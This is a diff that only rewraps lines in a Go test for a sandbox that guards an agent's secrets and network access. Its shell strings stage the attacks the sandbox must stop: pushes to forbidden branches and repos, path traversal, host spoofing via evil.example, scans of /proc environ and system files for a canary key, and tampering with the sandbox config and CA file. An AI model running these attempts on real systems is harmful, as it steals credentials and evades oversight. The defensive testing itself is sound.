@@ -125,7 +125,8 @@ func (p *strictProject) addKeys(authority []byte) {
     {"name": "vault", "from": "op://Dev/app/token", "for": "git:allowed.example/acme/other"}],
   "network": {`)
 	p.edit("compose.yaml", "    mem_limit: 512m\n", "    mem_limit: 512m\n    environment: {APP_KEY: \"${APP_KEY:-}\"}\n")
-	p.edit("Dockerfile", "# Last, so that an edit rebuilds only this.", "COPY world.crt /usr/local/share/ca-certificates/world.crt\nRUN update-ca-certificates")
+	p.edit("Dockerfile", "# Last, so that an edit rebuilds only this.",
+		"COPY world.crt /usr/local/share/ca-certificates/world.crt\nRUN update-ca-certificates")
 	if err := os.WriteFile(filepath.Join(p.dir, ".devcontainer", "world.crt"), authority, 0o644); err != nil {
 		p.t.Fatal(err)
 	}
@@ -148,8 +149,10 @@ func testStrictKeys(t *testing.T, p *strictProject, site *keyedSite) {
 	site.keyed()
 	out, err := p.exec(`cd /tmp && export GIT_TERMINAL_PROMPT=0 GIT_TRACE_CURL=/tmp/trace GIT_TRACE_REDACT=0
 		git clone -q https://allowed.example/acme/app.git app && cd app &&
-		git -c user.name=a -c user.email=a@allowed.example commit -q --allow-empty -m one && git push -q origin HEAD:refs/heads/agent/x && echo PUSHED
-		curl -sS -i https://allowed.example/api/me; curl -sS -i https://allowed.example/api/me -H 'Range: bytes=0-9' -H 'Authorization: Bearer mine' | grep -v hello`)
+		git -c user.name=a -c user.email=a@allowed.example commit -q --allow-empty -m one && git push -q origin ` +
+		`HEAD:refs/heads/agent/x && echo PUSHED
+		curl -sS -i https://allowed.example/api/me; curl -sS -i https://allowed.example/api/me -H 'Range: bytes=0-9' -H 'Authorization: ` +
+		`Bearer mine' | grep -v hello`)
 	if err != nil || !strings.Contains(out, "PUSHED") || !strings.Contains(out, "hello, you sent") {
 		t.Errorf("%v\n%s", err, out)
 	}
@@ -160,14 +163,18 @@ func testStrictKeys(t *testing.T, p *strictProject, site *keyedSite) {
 		t.Errorf("a session comes back:\n%s", out)
 	}
 	out2, _ := p.exec(`cd /tmp/app; export GIT_TERMINAL_PROMPT=0
-		git push -q origin HEAD:refs/heads/main; git ls-remote https://allowed.example/acme/other.git; git push -q https://allowed.example/acme/other.git HEAD:refs/heads/agent/x
-		curl -sS https://allowed.example/v2/me; curl -sS -X DELETE https://allowed.example/api/me; curl -sS https://allowed.example/api/../acme/other.git/info/refs --path-as-is
+		git push -q origin HEAD:refs/heads/main; git ls-remote https://allowed.example/acme/other.git; ` +
+		`git push -q https://allowed.example/acme/other.git HEAD:refs/heads/agent/x
+		curl -sS https://allowed.example/v2/me; curl -sS -X DELETE https://allowed.example/api/me; ` +
+		`curl -sS https://allowed.example/api/../acme/other.git/info/refs --path-as-is
 		curl -sS -k --resolve evil.example:443:` + p.world.addr + ` https://evil.example/api/me -H 'Host: allowed.example'
 		part='canary-key-5c81d07be2f[9]4a36'
 		cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a "$part" && echo FOUND
 		grep -ras "$part" /etc /home /run /tmp /var /ready /source /usr/local && echo FOUND
-		mkdir -p .devcontainer && echo '{"secrets": [{"name": "app", "from": "env:APP_KEY", "for": "git:allowed.example/acme/other"}]}' >.devcontainer/sandbox.jsonc
-		git ls-remote https://allowed.example/acme/other.git; echo x >/source/.devcontainer/sandbox.jsonc; echo x >/ready/ca.pem && echo FOUND; true`)
+		mkdir -p .devcontainer && echo '{"secrets": [{"name": "app", "from": "env:APP_KEY", "for": "git:allowed.example/acme/other"}]}' ` +
+		`>.devcontainer/sandbox.jsonc
+		git ls-remote https://allowed.example/acme/other.git; echo x >/source/.devcontainer/sandbox.jsonc; ` +
+		`echo x >/ready/ca.pem && echo FOUND; true`)
 	if got := site.keyed(); slices.ContainsFunc(got, func(path string) bool { return !strings.HasPrefix(path, "/acme/app.git/") }) {
 		t.Errorf("the key came to %q", got)
 	}
@@ -195,7 +202,8 @@ func testStrictKeys(t *testing.T, p *strictProject, site *keyedSite) {
 	if code := a.main(t.Context(), []string{"report", p.dir}); code != 0 {
 		t.Errorf("report: exit %d: %s", code, &report)
 	}
-	for _, want := range []string{"1 went: git push allowed.example/acme/app refs/heads/agent/x\n", "1 refused: git push allowed.example/acme/app refs/heads/main\n"} {
+	for _, want := range []string{"1 went: git push allowed.example/acme/app refs/heads/agent/x\n",
+		"1 refused: git push allowed.example/acme/app refs/heads/main\n"} {
 		if !strings.Contains(report.String(), want) || strings.Contains(report.String(), key) {
 			t.Errorf("no %q in the report:\n%s", want, &report)
 		}
